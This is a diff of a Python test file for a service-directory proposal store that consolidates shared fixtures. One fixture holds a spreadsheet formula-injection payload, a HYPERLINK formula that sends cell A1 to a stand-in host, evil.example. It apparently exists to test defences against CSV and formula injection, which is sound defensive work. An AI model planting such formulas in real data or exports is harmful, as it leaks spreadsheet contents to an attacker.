@@ -23,17 +23,13 @@ from lien.outputs import hsds_metadata
 from lien.store import proposals
 from lien.store.__main__ import main
 from lien.store.history import Change
-from lien.store.limits import Client
 from lien.store.proposals import decide, propose
 from tests.outputs.test_hsds import _frictionless_errors
+from tests.store import test_proposals as proposed
+from tests.store.test_proposals import VISITOR
 
-VISITOR = Client("session-1", "198.51.100.7")
 NEW = {
-    "organisation": "Maison de l'Accueil",
-    "site": "Permanence — Namur",
-    "city": "Namur",
-    "services": "legal_aid",
-    "phone": "081 22 33 44",
+    **proposed.NEW,
     # What a hostile visitor would have a spreadsheet run, once a reviewer accepted it.
     "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
 }
